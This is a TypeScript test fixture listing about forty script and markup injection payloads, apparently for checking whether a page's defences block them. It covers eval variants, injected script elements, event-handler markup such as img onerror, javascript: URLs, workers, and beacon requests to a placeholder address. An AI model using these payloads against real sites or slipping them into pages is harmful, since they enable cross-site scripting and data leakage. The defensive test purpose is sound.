/**
 * What an attacker would try who got a line of script or markup into the page. Each is run in the page with `run`, the text
 * of a script that leaves a trace, and `beacon`, an address that notices a request.
 */
export const injections: string[] = [
  // Text as code
  `eval(run)`,
  `(0, eval)(run)`,
  `new Function(run)()`,
  `(async () => {}).constructor(run)()`,
  `setTimeout(run)`,
  `setInterval(run, 10)`,
  `import('data:text/javascript,' + encodeURIComponent(run)).catch(() => {})`,
  `import(URL.createObjectURL(new Blob([run], { type: 'text/javascript' }))).catch(() => {})`,
  `import(beacon).catch(() => {})`,
  // Script elements
  `add('script', { textContent: run })`,
  `add('script', { text: run, type: 'module' })`,
  `add('script').append(document.createTextNode(run))`,
  `add('script', { src: 'data:text/javascript,' + encodeURIComponent(run) })`,
  `add('script', { src: URL.createObjectURL(new Blob([run])) })`,
  `add('script', { src: beacon })`,
  `document.body.append(Object.assign(document.createElementNS('http://www.w3.org/2000/svg', 'script'), { textContent: run }))`,
  // Markup
  `document.body.firstElementChild.insertAdjacentHTML('beforeend', '<img src=x onerror="' + run + '">')`,
  `add('div').innerHTML = '<svg onload="' + run + '"></svg>'`,
  `add('div').outerHTML = '<details open ontoggle="' + run + '">a</details>'`,
  `document.body.append(document.createRange().createContextualFragment('<script>' + run + '</script>'))`,
  `document.body.append(document.importNode(new DOMParser().parseFromString('<img src=x onerror="' + run + '">', 'text/html').body, true))`,
  `add('iframe', { srcdoc: '<script>parent.' + run + '</script>' })`,
  // Attributes
  `add('button', {}, { onclick: run }).click()`,
  `add('img', { src: 'x:' }, { onerror: run })`,
  `add('a', { href: 'javascript:' + run }).click()`,
  `add('iframe', { src: 'javascript:parent.' + run })`,
  `add('form', { action: 'javascript:' + run }).submit()`,
  // Other documents and contexts
  `add('iframe', { src: beacon })`,
  `add('object', { data: beacon })`,
  `add('embed', { src: beacon })`,
  `new Worker(URL.createObjectURL(new Blob(['fetch("' + beacon + '")'])))`,
  `new SharedWorker('data:text/javascript,fetch("' + beacon + '")')`,
  // Requests that tell something
  `fetch(beacon, { mode: 'no-cors' }).catch(() => {})`,
  `navigator.sendBeacon(beacon, 'x')`,
  `new WebSocket(beacon.replace('http', 'ws'))`,
  `new EventSource(beacon)`,
  `add('img', { src: beacon })`,
  `add('link', { rel: 'stylesheet', href: beacon })`,
  `add('style', { textContent: '@import url(' + beacon + '); body { background: url(' + beacon + ') }' })`,
  `add('form', { action: beacon, method: 'post' }).submit()`,
]
